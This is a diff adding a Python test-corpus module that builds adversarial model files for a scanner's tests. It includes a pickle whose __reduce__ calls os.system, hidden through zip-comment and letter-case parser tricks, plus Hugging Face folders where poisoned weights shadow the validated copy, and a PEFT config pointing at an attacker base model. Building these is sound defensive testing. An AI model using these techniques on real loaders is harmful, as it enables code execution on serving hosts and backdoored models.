@@ -1,0 +1,193 @@
+"""Files that read one way to the stage and another way to the loader a serving host runs: torch's zip
+reader (miniz), Python's zipfile, transformers' choice of weights file, peft.
+
+Each builder writes a real file (or folder) from a real benign save; hostile payloads create a file in
+the canary folder when the stock loader runs them. tests/unit/test_scan_differentials.py proves each
+mechanism on the stock loader first, then shows the stage refuses it.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import pickle
+import shutil
+import struct
+import zipfile
+import zlib
+from pathlib import Path
+
+import torch
+
+CD_SIG, EOCD_SIG, LOCAL_SIG = b"PK\x01\x02", b"PK\x05\x06", b"PK\x03\x04"
+
+
+class _System:
+    """Pickles as ``os.system(cmd)`` (what any pickle-based loader would call on load)."""
+
+    def __init__(self, cmd: str):
+        self.cmd = cmd
+
+    def __reduce__(self):
+        import os
+
+        return (os.system, (self.cmd,))
+
+
+def _linear_zip() -> bytes:
+    torch.manual_seed(0)
+    buf = io.BytesIO()
+    torch.save(torch.nn.Linear(4, 2).state_dict(), buf)
+    return buf.getvalue()
+
+
+def _cd_records(data: bytes) -> tuple[int, list[bytes]]:
+    """(offset of the end record, the central directory's records as written) of a torch-written zip."""
+    eocd = data.rfind(EOCD_SIG)
+    n, cd_size, cd_off = struct.unpack_from("<HII", data, eocd + 10)
+    records, i = [], cd_off
+    for _ in range(n):
+        nlen, elen, clen = struct.unpack_from("<HHH", data, i + 28)
+        records.append(data[i:i + 46 + nlen + elen + clen])
+        i += 46 + nlen + elen + clen
+    return eocd, records
+
+
+def eocd_in_comment(dest: Path, canary: Path) -> Path:
+    """A benign torch.save archive whose zip comment carries a second archive: a local header with a
+    ``data.pkl`` that runs ``os.system``, a central directory naming it (and the benign storage records),
+    and an end record that does not end the file (two bytes follow it). miniz and zipfile take the last
+    end-of-central-directory signature; a reader that wants the end record to end the file exactly falls
+    back to the real one, whose comment spans the rest."""
+    data = _linear_zip()
+    eocd, records = _cd_records(data)
+    evil = pickle.dumps(_System(f"touch {canary / 'eocd'}"), protocol=2)
+    name = records[0][46:46 + struct.unpack_from("<H", records[0], 28)[0]]
+    assert name.endswith(b"/data.pkl"), name
+    base = eocd + 22  # the comment starts after the real end record (torch writes no comment)
+    local = struct.pack("<4sHHHHHIIIHH", LOCAL_SIG, 20, 0, 0, 0, 0x21, zlib.crc32(evil), len(evil), len(evil),
+                        len(name), 0) + name + evil
+    first = bytearray(records[0][:46 + len(name)])
+    struct.pack_into("<IIIHH", first, 16, zlib.crc32(evil), len(evil), len(evil), len(name), 0)
+    struct.pack_into("<I", first, 42, base)
+    cd = bytes(first) + b"".join(records[1:])
+    cd_off = base + len(local)
+    end = struct.pack("<4sHHHHIIH", EOCD_SIG, 0, 0, len(records), len(records), len(cd), cd_off, 0)
+    comment = local + cd + end + b"\r\n"
+    out = data[:eocd + 20] + struct.pack("<H", len(comment)) + comment
+    dest.write_bytes(out)
+    return dest
+
+
+def _rewrite(data: bytes, rename: dict[str, str] | None = None, add: dict[str, bytes] | None = None) -> bytes:
+    src = zipfile.ZipFile(io.BytesIO(data))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
+        for n in src.namelist():
+            z.writestr((rename or {}).get(n, n), src.read(n))
+        for n, b in (add or {}).items():
+            z.writestr(n, b)
+    return out.getvalue()
+
+
+def record_in_other_case(dest: Path) -> Path:
+    """``archive/Data.Pkl`` instead of ``archive/data.pkl``: torch.load finds it (miniz ignores ASCII case),
+    an exact-name reader sees no torch layout."""
+    data = _linear_zip()
+    prefix = zipfile.ZipFile(io.BytesIO(data)).namelist()[0].split("/")[0]
+    dest.write_bytes(_rewrite(data, rename={f"{prefix}/data.pkl": f"{prefix}/Data.Pkl"}))
+    return dest
+
+
+def two_records_one_name(dest: Path, canary: Path) -> Path:
+    """``archive/data.pkl`` and ``archive/DATA.PKL`` (a payload): one name to torch."""
+    data = _linear_zip()
+    prefix = zipfile.ZipFile(io.BytesIO(data)).namelist()[0].split("/")[0]
+    evil = pickle.dumps(_System(f"touch {canary / 'case'}"), protocol=2)
+    dest.write_bytes(_rewrite(data, add={f"{prefix}/DATA.PKL": evil}))
+    return dest
+
+
+# -- Hugging Face folders: which copy of the weights is served ---------------------------------------
+
+
+def _poison(state: dict[str, torch.Tensor]) -> dict[str, torch.Tensor]:
+    """The same weights but one LayerNorm scaled: a backdoor needs no NaN and no new tensor."""
+    out = dict(state)
+    key = "transformer.h.0.ln_1.weight"
+    out[key] = torch.full_like(out[key], 7.0)
+    return out
+
+
+def single_beside_shards(d: Path) -> Path:
+    """Benign shards with their index, and a poisoned ``model.safetensors``: from_pretrained loads the
+    single file (it wins over the index); the stage validated the shards (they sort first)."""
+    from safetensors.torch import save_file
+
+    from tests.corpus.hf_cases import gpt2_model
+
+    m = gpt2_model()
+    m.save_pretrained(d, max_shard_size="20KB")
+    save_file(_poison({k: v.contiguous() for k, v in m.state_dict().items() if k != "lm_head.weight"}),
+              str(d / "model.safetensors"), metadata={"format": "pt"})
+    return d
+
+
+def variant_beside_main(d: Path) -> Path:
+    """``model.fp16.safetensors`` (benign, sorts first) beside a poisoned ``model.safetensors`` (what
+    from_pretrained loads without ``variant=``)."""
+    from safetensors.torch import load_file, save_file
+
+    from tests.corpus.hf_cases import gpt2_folder
+
+    gpt2_folder(d)
+    shutil.copy(d / "model.safetensors", d / "model.fp16.safetensors")
+    save_file(_poison(load_file(str(d / "model.safetensors"))), str(d / "model.safetensors"),
+              metadata={"format": "pt"})
+    return d
+
+
+def bin_beside_safetensors(d: Path, *, shape: bool = False) -> Path:
+    """A ``pytorch_model.bin`` beside ``model.safetensors`` holding other values (or another shape):
+    what a host with ``use_safetensors=False`` (or an older stack) serves."""
+    from safetensors.torch import load_file
+
+    from tests.corpus.hf_cases import gpt2_folder
+
+    gpt2_folder(d)
+    state = load_file(str(d / "model.safetensors"))
+    if shape:
+        state["transformer.h.0.ln_1.weight"] = torch.ones(32)
+    else:
+        state = _poison(state)
+    torch.save(state, d / "pytorch_model.bin")
+    return d
+
+
+def benign_copies(d: Path) -> Path:
+    """The legitimate siblings: ``pytorch_model.bin`` with the same tensors, and an fp16 variant."""
+    from safetensors.torch import load_file
+
+    from tests.corpus.hf_cases import gpt2_model
+
+    m = gpt2_model()
+    m.save_pretrained(d)
+    m.half().save_pretrained(d, variant="fp16")
+    torch.save(load_file(str(d / "model.safetensors")), d / "pytorch_model.bin")
+    return d
+
+
+def peft_adapter(d: Path, *, alone: bool = False) -> Path:
+    """A model folder with a PEFT ``adapter_config.json``: with peft installed from_pretrained applies the
+    adapter on top of the folder's model, or (``alone``: no config.json) loads ``base_model_name_or_path``
+    from anywhere and the adapter on top."""
+    from tests.corpus.hf_cases import gpt2_folder
+
+    gpt2_folder(d)
+    if alone:
+        (d / "config.json").unlink()
+        (d / "model.safetensors").rename(d / "adapter_model.safetensors")
+    (d / "adapter_config.json").write_text(json.dumps({
+        "base_model_name_or_path": "attacker/unvetted-base", "peft_type": "LORA", "task_type": "CAUSAL_LM",
+        "r": 2, "lora_alpha": 4, "target_modules": ["c_attn"]}))
+    return d
